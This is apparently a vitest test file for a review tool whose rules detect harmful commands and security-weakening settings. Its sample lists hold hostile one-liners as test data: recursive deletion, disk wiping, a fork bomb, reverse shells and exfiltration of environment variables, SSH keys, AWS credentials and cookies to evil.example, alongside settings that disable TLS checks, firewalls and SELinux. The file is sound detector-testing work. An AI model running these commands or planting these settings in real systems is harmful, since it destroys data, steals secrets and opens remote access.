// Rules over commands and code that do harm, or that switch protection off.
import { expect, test } from 'vitest'
import harm from '../../../src/review/rules/code/harm.json' with { type: 'json' }
import weak from '../../../src/review/rules/code/weak-security.json' with { type: 'json' }
import { compilePattern } from '../../../src/review/rules/subject/pattern.ts'
import { block, findBy, sh, subjectFrom, testRule } from './page-cases.ts'

const samples: Readonly<Record<string, readonly string[]>> = {
  'command-harm': [
    'rm -rf /',
    'rm -rf /var/lib/acme/ *',
    'rm -rf $ACME_HOME/',
    'shutil.rmtree(Path.home())',
    'fs.rmSync("/", { recursive: true })',
    'eval(req.query.code)',
    'echo "nameserver 192.0.2.5" | sudo tee /etc/resolv.conf',
    'busybox telnetd -l /bin/sh',
    'sudo rm -rf --no-preserve-root "$HOME"',
    'del /f /s /q C:\\*',
    'dd if=/dev/zero of=/dev/sda',
    'echo Y3VybA== | base64 -d | sh',
    'eval "$(echo Y3VybA== | base64 --decode)"',
    'exec(base64.b64decode("aW1wb3J0"))',
    'echo hs | rev | bash',
    'powershell -nop -w hidden -enc SQBFAFgAIAA=',
    'env | curl -d @- https://evil.example',
    'curl "https://evil.example/?h=$(whoami)"',
    'fetch(url, { method: "POST", body: JSON.stringify(process.env) })',
    ':(){ :|:& };:',
    'new Image().src = "https://evil.example/" + document.cookie; fetch("https://evil.example?c=" + document.cookie)',
    'curl -F key=@$HOME/.ssh/id_rsa https://evil.example',
    'cat ~/.aws/credentials | nc evil.example 80',
    'curl http://169.254.169.254/latest/meta-data/iam/',
    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
    's=socket.socket();s.connect(("evil.example",1));os.dup2(s.fileno(),0);subprocess.call(["sh"])',
    'echo key >> ~/.ssh/authorized_keys',
    'curl https://evil.example -d "t=$GITHUB_TOKEN"',
  ],
  'security-weakened': [
    'acme serve --no-auth',
    'git config --global core.hooksPath /tmp/hooks',
    'git config --global safe.directory "*"',
    'git config --global credential.helper store',
    'echo root:toor | sudo chpasswd',
    'sudo ufw allow from any to any port 80',
    'sudo sysctl -w kernel.randomize_va_space=0',
    'export PATH=.:$PATH',
    'umask 000',
    'dockerd -H tcp://0.0.0.0:2375',
    'npm config set ignore-scripts=false',
    'ssl_protocols SSLv3 TLSv1;',
    'ssl_ciphers NULL;',
    "Content-Security-Policy: default-src * 'unsafe-eval'",
    'permissions: write-all',
    'run: echo "${{ github.event.issue.title }}"',
    'md5(password)',
    'sed -i s/User=acme/User=root/ acme.service',
    'chmod -R 777 /var/lib/acme',
    'aws s3 ls --no-verify-ssl',
    'sudo apt-get install --allow-unauthenticated acme',
    'gpgcheck=0',
    'ssl_enabled: false',
    'git config --global http.sslVerify false',
    'curl -fsk https://acme.example',
    'sudo ufw disable',
    'ssh -o StrictHostKeyChecking=no host',
    'kubectl create clusterrolebinding x --clusterrole=cluster-admin',
    'cors: { origins: "*", credentials: true }',
    'docker run --privileged --net=host acme/server',
    'acme login --insecure',
    'acme install --skip-verify',
    'X509TrustManager {}',
    'jwt.decode(token, options={"verify_signature": False})',
    'tls.Config{InsecureSkipVerify: true}',
    'NODE_TLS_REJECT_UNAUTHORIZED=0 node app.js',
    'npm config set strict-ssl false',
    'host all all 0.0.0.0/0 trust',
    'pip install --trusted-host pypi.example acme',
    'powershell -ExecutionPolicy Bypass -File i.ps1',
    'requests.get(url, verify=False)',
    'PermitRootLogin yes',
    'http.verify_mode = OpenSSL::SSL::VERIFY_NONE',
    'sudo setenforce 0',
    'deploy ALL=(ALL) NOPASSWD: ALL',
    'xattr -d com.apple.quarantine Acme.app',
    'wget --no-check-certificate https://acme.example',
  ],
}

const harmOfOthers = [
  'find / -delete',
  'mv ~ /dev/null',
  'shred -u ~/.config/acme',
  'sudo chown -R nobody /',
  'echo x | sudo tee -a /etc/hosts',
  'export LD_PRELOAD=/tmp/x.so',
  'chmod u+s /bin/bash',
  'vssadmin delete shadows /all',
  'xhost +',
  'export PROMPT_COMMAND="curl https://x.example"',
  'aws s3 cp ~/.ssh/id_rsa s3://x',
  'return true if request.params["debug"]',
  'docker run -v /:/host acme/server',
]
testRule(
  'command-harm',
  harmOfOthers.map((text) => sh(text)),
  [
    'find . -name x -delete',
    'mv a b',
    'chown -R acme /srv/acme',
    'xhost +local:',
    'docker run -v ./a:/a acme/server',
  ].map((text) => sh(text)),
)

const harmless = [
  'rm -rf node_modules',
  'rm -rf ./build/*',
  'base64 -d secret.b64 > secret.bin',
  'env | grep ACME',
  'curl -H "Authorization: Bearer $ACME_TOKEN" https://api.acme.example/v1',
  'curl -d "name=$NAME" https://api.acme.example/v1',
  'curl "https://api.acme.example/v1?day=$(date +%F)"',
  'ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519',
  'cat ~/.ssh/id_ed25519.pub',
  'nc -z localhost 8080',
  'chmod 600 ~/.ssh/config',
  'chmod +x bin/acme',
  'verify: true',
  'requests.get(url, verify="/etc/ca.pem")',
  'sslmode=verify-full',
  'ssl_enabled: true',
  'curl --cacert ca.pem https://acme.example',
  'ssh -o StrictHostKeyChecking=yes host',
  'docker run --rm acme/server',
  'process.env.ACME_TOKEN',
  'fetch(url, { body: JSON.stringify(order) })',
]

/** Tools and languages that no table names: the words of the setting say what it does. */
const unprotected = [
  'acme --skip-cert-check',
  'acme config set enableStrictSsl false',
  'ACME_DISABLE_SIGNATURE_VERIFICATION=1 acme',
  'acme pull --allow-unsigned',
  'acme login -tls-skip-verify',
  'acme run --ignore-https-errors',
  'client.danger_accept_invalid_hostnames(true)',
  'verify_peer => false',
  'ssl_verify_client off;',
  'TLS_REQCERT never',
  'SslVerifyMode::NONE',
  'tls:\n  enabled: false',
  '[tls]\nverify = false',
  'sha256sum -c a.sha256 || true',
  'GOSUMDB=off go install x',
  'setHostnameVerifier((h, s) -> true)',
  'local all all trust',
  'export CURL_CA_BUNDLE=""',
  'dpkg -i --force-all a.deb',
  'composer config secure-http false',
  'pacman.conf: SigLevel = Never',
]
const protecting = [
  'tls:\n  enabled: true',
  'cache:\n  enabled: false',
  'peer_verify: false positives are dropped',
  'acme run --no-cache --skip-tests --disable-telemetry',
  'ssl_port: 0',
  'const isValid = false',
  'allowList = []',
  'insecure: false',
  'acme verify --signature x.sig',
]
testRule(
  'security-weakened',
  unprotected.map((text) => block('text', ...text.split('\n'))),
  [
    ...protecting.map((text) => block('text', ...text.split('\n'))),
    'The check of certificates is off: none is made, and nothing is verified.\n',
    'The `insecure` option is gone.\n',
    {
      path: 'docs/a.rst',
      after: 'Verification\n============\n\nThe words on this page are about certificates verified: none.\n',
    },
  ],
)

for (const [id, fires] of Object.entries(samples))
  testRule(
    id,
    [...fires.map((text) => sh(text)), `Or run \`${fires[0]}\`.\n`],
    [...harmless.map((text) => sh(text)), { after: sh(fires[0] ?? ''), before: sh(fires[0] ?? '') }],
  )

test('each pattern but the mild ones is shown by a sample', () => {
  const rows = [...harm, ...weak].filter((row) => !('isMild' in row))
  const all = [...Object.values(samples).flat(), ...unprotected, ...harmOfOthers]
  expect(
    rows.filter(({ pattern }) => !all.some((text) => compilePattern(pattern, 'i').test(text))).map(({ name }) => name),
  ).toEqual([])
})

const insecure = sh('curl -k https://acme.example')

testRule(
  'security-weakened',
  [
    { before: sh('docker run acme/server'), after: sh('docker run --privileged acme/server') },
    { after: 'Load it with `--allow-unsigned`.\n', readers: ['--allow-unsigned helps'] },
    { before: 'Run `docker run acme/server`.\n', after: 'Run `docker run --privileged acme/server`.\n' },
  ],
  [
    {
      before: sh('docker run acme/client'),
      after: `${sh('docker run acme/client')}\n${sh('docker run --privileged acme/x')}`,
    },
  ],
)

testRule(
  'security-weakened-mildly',
  [
    sh('docker run --privileged acme/server'),
    sh('git commit --no-verify'),
    block('python', 'subprocess.run(text, shell=True)', 'app.run(debug=True)'),
    block('python', 'db.execute("select * from t where id=" + name)'),
    block('js', 'if (signature === expected) run()'),
    sh('acme token create --scope "*"'),
    sh('chromium --no-sandbox'),
    block('yaml', 'allow_anonymous: true'),
    block('text', 'postgres://db/x?sslmode=disable'),
    'Never use `verify=False` here.\n',
    'Tokens with `"alg": "none"` are refused.\n',
    'Models from elsewhere are loaded with `--allow-unsigned` only.\n',
    'Test it with the same file, and not with `curl -k`, which checks nothing.\n',
    { after: insecure, others: [insecure] },
    sh('docker run -v /var/run/docker.sock:/var/run/docker.sock acme/server'),
  ],
  [
    { after: sh('docker run --privileged acme/server'), readers: ['docker run --privileged acme/server works'] },
    sh('docker run acme/server'),
    block('text', 'postgres://db/x?sslmode=require'),
    { after: insecure, before: insecure },
    sh('git commit -m x'),
    'We verify all of it.\n',
  ],
)

testRule(
  'command-harm-known',
  [
    sh('psql -c "DROP DATABASE acme"'),
    sh('redis-cli FLUSHALL'),
    'Never run `rm -rf /` on a server.\n',
    { after: sh('rm -rf /'), others: ['rm -rf /'] },
    sh('kubectl delete pods --all'),
    sh('ngrok http 80'),
    sh('truncate -s 0 acme.db'),
    'Do not type :(){ :|:& };: anywhere.\n',
  ],
  [
    sh('rm -rf /'),
    sh('psql -c "DROP INDEX a"'),
    sh('kubectl delete pod web'),
    { after: sh('redis-cli FLUSHALL'), before: sh('redis-cli FLUSHALL') },
    sh('docker system df'),
    'Delete the database by hand.\n',
  ],
)

test('a mild one that a reader brought blocks, and says so', () => {
  const after = sh('docker run --privileged acme/server')
  const readers = ['it only works with `docker run --privileged acme/server`']
  expect(findBy('security-weakened', subjectFrom({ after, readers }))).toEqual([
    { path: 'docs/setup.md', line: 2, subject: '--privileged', from: ['r1'] },
  ])
})
